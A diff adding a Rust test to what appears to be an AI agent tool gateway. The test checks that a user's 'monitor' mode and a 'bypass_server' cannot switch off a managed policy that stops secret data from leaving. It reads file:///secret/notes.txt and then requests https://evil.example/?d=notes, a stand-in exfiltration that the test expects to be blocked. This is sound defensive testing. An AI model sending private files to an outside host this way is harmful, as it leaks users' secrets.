@@ -401,3 +401,21 @@ fn audit_text(env: &Env) -> String {
     }
     text
 }
+
+#[test]
+fn a_users_monitor_mode_does_not_switch_off_the_managed_trifecta() {
+    let env = Env::new();
+    std::fs::create_dir_all(&env.managed).unwrap();
+    std::fs::write(env.managed.join("policy.toml"), TRIFECTA).unwrap();
+    env.user_config(&format!(
+        "{}[policy]\nmode = \"monitor\"\n",
+        example_table("b", "bypass_server", &[])
+    ));
+    let mut serve = env.serve();
+    serve.initialize();
+    serve.tool_names(1);
+    read(&mut serve, 2, "file:///secret/notes.txt");
+    serve.call_tool(3, "b__issue", json!({}));
+    let out = read(&mut serve, 4, "https://evil.example/?d=notes");
+    assert_blocked(&out, "flow:trifecta");
+}
